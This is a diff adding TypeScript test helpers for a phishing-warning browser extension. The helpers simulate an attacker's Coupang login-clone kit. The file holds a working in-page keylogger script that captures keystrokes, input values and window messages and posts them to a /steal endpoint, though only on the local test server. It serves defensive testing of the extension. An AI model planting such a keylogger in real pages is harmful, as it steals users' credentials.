@@ -1,0 +1,92 @@
+import type { RecordedRequest, TestServer } from '../harness/server';
+import type { Session, Tab } from '../harness';
+import { poll } from '../harness';
+import { addToHead, bodyOf, fixtureHtml, isWarningUrl } from '../page-helpers';
+
+export { expectPageWarning, isWarningUrl } from '../page-helpers';
+
+/**
+ * A phishing kit that has read our source (issue #10). Each page below is the attacker's: its own script
+ * does the attack, and everything it gets hold of (keys, messages from the extension, the moment the attack
+ * is in place) is sent to its server, as a real kit would. The tests read the server's log, so what the
+ * user would lose is counted even after the tab has left the page.
+ */
+export const F01 = fixtureHtml('fake/f01-login-clone-ko.html');
+export const F01_BODY = bodyOf(F01);
+export const PASSWORD = '#login-password-input';
+
+/** JSON for inline <script>: `</script>` inside page markup must not end the script. */
+export const js = (v: unknown): string => JSON.stringify(v).replace(/</g, '\\u003c');
+
+/**
+ * First script of the page's <head>: runs before anything of the page, but after a document_start content
+ * script. `steal(kind, data)` posts to /steal on the page's own host; a keylogger on `window` (capture) and
+ * on `document` sends every key and input; every window message is sent too (the extension announcing
+ * itself).
+ */
+export const KEYLOGGER = `<script>
+window.steal = function (kind, data) {
+  try { fetch('/steal?' + kind + '=' + encodeURIComponent(String(data).slice(0, 300)), { method: 'POST', keepalive: true }); } catch (e) {}
+};
+window.logKeys = function () {
+  window.addEventListener('keydown', function (e) { steal('key', e.key); }, true);
+  document.addEventListener('input', function (e) { steal('input', e.target && e.target.value); }, true);
+};
+logKeys();
+window.addEventListener('message', function (e) {
+  if (e.data && e.data.messageId === 'attacker') return;
+  steal('message', JSON.stringify(e.data));
+});
+</script>`;
+
+/** Puts `markup` first in <head>. */
+export const first = (html: string, markup: string): string =>
+  html.replace(/<head([^>]*)>/i, `<head$1>${markup}`);
+
+/** f01 (a Coupang login clone) with the keylogger first and `attack` last in <head>. */
+export const kit = (attack: string, html = F01): string => addToHead(first(html, KEYLOGGER), attack);
+
+export const stolen = (server: TestServer, host: string, kind?: string): RecordedRequest[] =>
+  server
+    .requestsFor(host)
+    .filter((r) => r.path.startsWith('/steal?') && (!kind || r.path.startsWith(`/steal?${kind}=`)));
+
+/** Either the attack says it is in place, or the tab already left for the warning page. */
+export async function attackSettled(s: Session, tab: Tab, server: TestServer, host: string): Promise<void> {
+  await poll(
+    async () => stolen(server, host, 'ready').length > 0 || isWarningUrl(s, await liveUrl(tab)),
+    (ok) => ok,
+    20_000,
+    'the attack to be in place or the warning page',
+  );
+}
+
+async function liveUrl(tab: Tab): Promise<string> {
+  return tab.evaluate(() => location.href).catch(() => tab.url());
+}
+
+/**
+ * The user types where the page points them: clicks the element (when the page still shows it) and types.
+ * On the warning page the keys go to our page, as they would for a user.
+ */
+export async function userTypes(tab: Tab, selector: string, text: string): Promise<void> {
+  const box = await tab
+    .evaluate((sel: string) => {
+      const r = document.querySelector(sel)?.getBoundingClientRect();
+      return r && r.width > 0 ? { x: r.left + r.width / 2, y: r.top + r.height / 2 } : null;
+    }, selector)
+    .catch(() => null);
+  if (box) await tab.mouseClick(box.x, box.y).catch(() => undefined);
+  await tab.keyboard(text).catch(() => undefined);
+}
+
+/** Allowances ("Continue anyway") the background holds. */
+export const allowances = (s: Session): Promise<{ host: string; until: number }[]> =>
+  s
+    .evalInExtension(
+      () =>
+        ((globalThis as unknown as { browser?: typeof chrome }).browser ?? chrome).runtime.sendMessage({
+          type: 'ui:list-allowances',
+        }) as Promise<{ allowances: { host: string; until: number }[] }>,
+    )
+    .then((r) => r?.allowances ?? []);
